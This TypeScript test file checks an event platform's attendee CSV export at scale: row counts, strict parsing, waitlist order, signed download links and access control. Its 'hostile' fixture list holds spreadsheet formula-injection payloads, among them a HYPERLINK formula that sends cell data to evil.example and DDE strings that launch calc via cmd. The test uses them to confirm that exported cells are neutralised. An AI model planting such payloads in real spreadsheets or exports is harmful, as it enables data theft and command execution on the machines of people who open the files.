/**
 * Attendee exports at size and with hostile content. 25,000 RSVPs are too many to make
 * through HTTP in a test, so they are written straight into DynamoDB Local, shaped
 * exactly as the store's saveRsvp writes them, for an event created through the API.
 * Everything asserted is read back through HTTP: the export and the file it links to.
 */
import type { Rsvp } from '../../functions/core/domain/events.js';
import { call, callBytes, signIn } from '../support/http.js';
import { buildAssociation, expectProblem, expectStatus, type AssociationFixture } from '../support/fixtures.js';
import { allItems, batchWrite, codeItem, createEvent, csvObjects, download, makeRsvp, parseCsvStrict, rsvp, rsvpItem, waitingItem, type EventView } from '../support/events.js';

/** Names (and companies) a spreadsheet must show as text, never run. */
const hostile = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'Ada "The Countess" Lovelace',
  'Lovelace, Ada, Countess of',
  'Line one\nLine two',
  'Carriage\r\nReturn',
  'Emoji 🎉👩‍💻 Ünïcødé 日本語',
  '\tLeading tab',
  '=1+2',
  ' =spaced formula',
];
/** What the export must show: formula-looking text prefixed with a quote (OWASP). */
const shown = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const N = 25_000;

describe('attendee export of 25,000 RSVPs', () => {
  let fx: AssociationFixture;
  let ev: EventView;
  const run = Math.random().toString(16).slice(2, 18).padEnd(16, '0');
  const expected = new Map<string, Rsvp>();

  beforeAll(async () => {
    fx = await buildAssociation();
    ev = await createEvent(fx.organizer, fx.associationId, {
      title: 'Big conference',
      capacity: null,
      questions: [{ id: 'diet', label: 'Dietary needs', type: 'text', required: false }],
    });
    const rsvps: Rsvp[] = [];
    for (let i = 0; i < N; i++) {
      const h = i < hostile.length ? hostile[i]! : undefined;
      const r = makeRsvp(ev, run, i, {
        ...(h ? { name: h, company: h, answers: { diet: h } } : {}),
        ...(i % 7 === 0 && !h ? { company: `Company ${i}`, jobTitle: 'Engineer' } : {}),
        ...(i % 11 === 0 ? { guests: 1 } : {}),
      });
      rsvps.push(r);
      expected.set(r.email, r);
    }
    const started = Date.now();
    await batchWrite(rsvps.map((r) => rsvpItem(ev, r)));
    console.log(`wrote ${N} RSVPs into DynamoDB Local in ${Date.now() - started} ms`);
  }, 300_000);

  it('format=url answers {url, rows: 25000}; the file parses strictly and lists every attendee exactly once', async () => {
    const started = Date.now();
    const res = await call('GET', `/events/${ev.eventId}/attendees/export?format=url`, { token: fx.organizer.token });
    const exportMs = Date.now() - started;
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ url: expect.any(String), rows: N, expiresAt: expect.any(String) });

    const file = await download(res.body.url);
    console.log(`export of ${N} rows: ${exportMs} ms, ${file.bytes.length} bytes`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toMatch(/^text\/csv/);
    const csv = parseCsvStrict(file.bytes);
    expect(csv.header).toEqual([
      'name', 'email', 'company', 'jobTitle', 'status', 'waitlistPosition', 'rsvpAt', 'guests', 'checkedIn', 'checkedInAt', 'membershipStatus', 'membershipPlan', 'Dietary needs',
    ]);
    expect(csv.rows).toHaveLength(N);
    const rows = csvObjects(csv);
    const seen = new Map<string, number>();
    for (const r of rows) seen.set(r.email!, (seen.get(r.email!) ?? 0) + 1);
    expect(seen.size).toBe(N);
    expect([...seen.values()].every((n) => n === 1)).toBe(true);
    expect([...seen.keys()].sort()).toEqual([...expected.keys()].sort());

    const mismatches: unknown[] = [];
    for (const row of rows) {
      const r = expected.get(row.email!)!;
      const want = {
        name: shown(r.name),
        company: r.company ? shown(r.company) : '',
        jobTitle: r.jobTitle ?? '',
        status: 'going',
        waitlistPosition: '',
        rsvpAt: r.rsvpAt,
        guests: String(r.guests),
        checkedIn: 'no',
        checkedInAt: '',
        membershipStatus: 'non-member',
        membershipPlan: '',
        'Dietary needs': r.answers.diet ? shown(r.answers.diet as string) : '',
      };
      const got = Object.fromEntries(Object.keys(want).map((k) => [k, row[k]]));
      if (JSON.stringify(got) !== JSON.stringify(want)) mismatches.push({ got, want });
    }
    expect(mismatches.slice(0, 5)).toEqual([]);
  }, 120_000);

  it('hostile names round-trip through a strict parser, formula-looking cells prefixed by a quote', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export?format=url`, { token: fx.organizer.token });
    const rows = csvObjects(parseCsvStrict((await download(res.body.url)).bytes));
    const byEmail = new Map(rows.map((r) => [r.email!, r]));
    for (const [i, h] of hostile.entries()) {
      const row = byEmail.get(`attendee.${i}.${run}@example.test`)!;
      expect({ i, name: row.name, company: row.company, diet: row['Dietary needs'] }).toEqual({ i, name: shown(h), company: shown(h), diet: shown(h) });
    }
    // No cell anywhere starts like a formula.
    const formula = rows.flatMap((r) => Object.entries(r)).filter(([, v]) => /^[=+\-@\t\r]/.test(v));
    expect(formula).toEqual([]);
  }, 120_000);

  it('preset=minimal has only name, company, guests: no emails, no answers', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export?format=url&preset=minimal`, { token: fx.organizer.token });
    expect(res.status).toBe(200);
    expect(res.body.rows).toBe(N);
    const file = await download(res.body.url);
    const csv = parseCsvStrict(file.bytes);
    expect(csv.header).toEqual(['name', 'company', 'guests']);
    expect(csv.rows).toHaveLength(N);
    expect(file.bytes.toString('utf8')).not.toContain('@example.test');
    const names = new Set(csv.rows.map((r) => r[0]));
    expect(names.size).toBe(N);
    expect(names.has(shown(hostile[0]!))).toBe(true);
  }, 120_000);

  it('without format=url, a list this large is still handed over as a link', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export`, { token: fx.organizer.token });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ url: expect.any(String), rows: N });
  }, 120_000);

  it('the file link is signed: a changed token or path is refused', async () => {
    const res = await call('GET', `/events/${ev.eventId}/attendees/export?format=url&preset=minimal`, { token: fx.organizer.token });
    const url = new URL(res.body.url);
    const token = url.searchParams.get('token')!;
    url.searchParams.set('token', `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`);
    expectProblem(await call('GET', `${url.pathname}${url.search}`), 403);
    const other = new URL(res.body.url);
    other.pathname = other.pathname.replace(/[^/]+$/, 'other.csv');
    expectProblem(await call('GET', `${other.pathname}${other.search}`), 403);
  });
});

describe('waitlist export order', () => {
  it('status=waitlisted exports a small waitlist in waitlist order', async () => {
    const fx = await buildAssociation();
    const ev = await createEvent(fx.organizer, fx.associationId, { capacity: 1 });
    const people = await Promise.all(Array.from({ length: 6 }, (_, i) => signIn(`wl${i}`, `Waiter ${i}`)));
    for (const p of people) await rsvp(p, ev.eventId);
    const res = await callBytes('GET', `/events/${ev.eventId}/attendees/export?status=waitlisted`, { token: fx.organizer.token });
    expect(res.status).toBe(200);
    const rows = csvObjects(parseCsvStrict(res.bytes));
    expect(rows.map((r) => [r.waitlistPosition, r.email, r.status])).toEqual(people.slice(1).map((p, i) => [String(i + 1), p.email, 'waitlisted']));
  });

  it('status=waitlisted exports a waitlist of 1,200 in waitlist order, across pages', async () => {
    const fx = await buildAssociation();
    const ev = await createEvent(fx.organizer, fx.associationId, { capacity: 1 });
    const run = Math.random().toString(16).slice(2, 18).padEnd(16, '0');
    const W = 1200;
    // Arrival order is the reverse of user id order, as unrelated as real subs and arrival times.
    const waiting = Array.from({ length: W }, (_, i) =>
      makeRsvp(ev, run, i, { status: 'waitlisted', waitKey: `1#01J${String(W - i).padStart(23, '0')}`, name: `Waiter ${i}`, email: `waiter.${i}.${run}@example.test` }),
    );
    await batchWrite(waiting.flatMap((r) => [rsvpItem(ev, r), waitingItem(ev, r), codeItem(ev, r)]));
    const inOrder = [...waiting].sort((a, b) => (a.waitKey! < b.waitKey! ? -1 : 1));

    // The attendee list agrees on the positions.
    const listed = await allItems(`/events/${ev.eventId}/attendees?status=waitlisted`, fx.organizer.token);
    const listedPos = new Map(listed.map((a) => [a.email, a.waitlistPosition]));
    expect(inOrder.every((r, i) => listedPos.get(r.email) === i + 1)).toBe(true);

    const res = await callBytes('GET', `/events/${ev.eventId}/attendees/export?status=waitlisted`, { token: fx.organizer.token });
    expect(res.status).toBe(200);
    const rows = csvObjects(parseCsvStrict(res.bytes));
    expect(rows).toHaveLength(W);
    const positions = rows.map((r) => Number(r.waitlistPosition));
    const firstOutOfOrder = positions.findIndex((p, i) => p !== i + 1);
    const around = firstOutOfOrder < 0 ? [] : positions.slice(Math.max(0, firstOutOfOrder - 2), firstOutOfOrder + 2);
    expect({ firstOutOfOrder, around }).toEqual({ firstOutOfOrder: -1, around: [] });
    expect(rows.map((r) => r.email)).toEqual(inOrder.map((r) => r.email));
  }, 120_000);
});

describe('export access', () => {
  it('an organizer of another association cannot export this one (403 problem)', async () => {
    const [fx, foreign] = await Promise.all([buildAssociation(), buildAssociation()]);
    const ev = await createEvent(fx.organizer, fx.associationId);
    expectProblem(await call('GET', `/events/${ev.eventId}/attendees/export`, { token: foreign.organizer.token }), 403);
    expectProblem(await call('GET', `/events/${ev.eventId}/attendees/export?format=xlsx`, { token: fx.organizer.token }), 400);
    expectStatus(await call('GET', `/events/${ev.eventId}/attendees/export?status=all&preset=minimal`, { token: fx.organizer.token }), 200, 'export all');
  });
});
